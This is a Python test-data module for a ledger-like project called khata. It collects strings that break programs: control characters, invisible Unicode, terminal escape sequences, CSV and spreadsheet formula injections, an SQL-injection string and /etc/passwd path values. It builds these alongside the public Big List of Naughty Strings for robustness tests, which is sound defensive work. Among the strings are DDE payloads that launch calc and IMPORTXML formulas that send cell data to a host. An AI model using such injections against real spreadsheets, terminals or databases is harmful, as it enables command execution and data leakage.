"""Strings that make programs fall over: a public list of them, and those that are khata's own business."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final
from unicodedata import category, normalize

CORPORA: Final = Path(__file__).parent.parent / "corpora"

CONTROLS: Final = [chr(point) for point in (*range(0x20), *range(0x7F, 0xA0))]

UNSEEN: Final = [
    chr(point)
    for point in (*range(0x20000), *range(0xE0000, 0xE1000))
    if category(chr(point)) in {"Cf", "Zl", "Zp"} and chr(point) not in "\u200c\u200d"
]
"""What shows nothing and may reorder what stands around it; the joiners aside, without which Hindi is misspelt."""

STEERING: Final = [
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;https://example.org\x1b\\pay here\x1b]8;;\x1b\\",
    "\x1bP$q q\x1b\\",
    "\x1b[6n",
    "\x1b(0qqqq",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "\x90q\x9c",
    "Ramesh\rSuresh",
    "Ramesh\b\b\b\b\b\bSuresh",
    "Ramesh\nSuresh",
    "Ramesh\x85Suresh",
    "Ramesh\u2028Suresh",
    "\u202e00.054 hsemaR",
    "Ramesh \u2067450 due\u2069",
]

FORMULAS: Final = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"statement")',
    '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
    "+1-1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "x;=1+1",
    "x;-1;@y",
    'x";=1+1;"',
    "x,=1+1",
    'x",=1+1,"',
    ";=1+1",
]

_OTHERS: Final = [
    "{0}",
    "{name}",
    "{",
    "%(name)s",
    "[bold]Ramesh[/]",
    "[/]",
    "[link=file:///etc/passwd]x[/link]",
    ":smile:",
    "\\N{BELL}",
    "a,b",
    'a"b',
    "a;b|c\td",
    "%",
    "_",
    "x'; DROP TABLE event; --",
    '{"a":1}',
    "\\u0000",
    "~",
    "~root",
    "~nobody-is-called-so/x",
    "--book=/etc/passwd",
    "-o",
    ".",
    "..",
    "e\u0301",
    "\u00e9",
    "\ufb01",
    "\u2163",
    "\u0130stanbul",
    "\u1e9e",
    "\u03c2",
    "\u0149x",
    "\ufdfa",
    "e" + "\u0301" * 300,
    "e" + "\u0315" * 200 + "\u0300" * 200,
    "\ue000",
    "\ufdd0",
    "\uffff",
    "\U0010ffff",
    "\u0378",
    "\udc80",
    "\ud800",
    "\u0915\u094d\u200d\u0937",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
    "\u200d",
    "a\u200db",
    "\u2800",
    "\u3164",
    "\U000e0041",
    "\u1112\u1161\u11ab",
    "\u0645\u062d\u0645\u062f 450",
    "@1",
    "@99999999999999999999",
    "'@1",
    "counter",
    "COUNTER",
    "9" * 5000,
    "1" + "+1" * 2500,
    "x" * 5000,
    "\u0939" * 5000,
    "x " * 2500,
]

CORPUS: Final[list[str]] = json.loads((CORPORA / "big-list-of-naughty-strings" / "blns.json").read_text("utf-8"))
OURS: Final = [*(f"Ra{each}mesh" for each in CONTROLS), *STEERING, *FORMULAS, *_OTHERS]
ALL: Final = list(dict.fromkeys([*OURS, *CORPUS]))


def kept(text: str) -> str:
    """How khata stores a text that it takes: NFC, single blanks."""
    return " ".join(normalize("NFC", text).split())
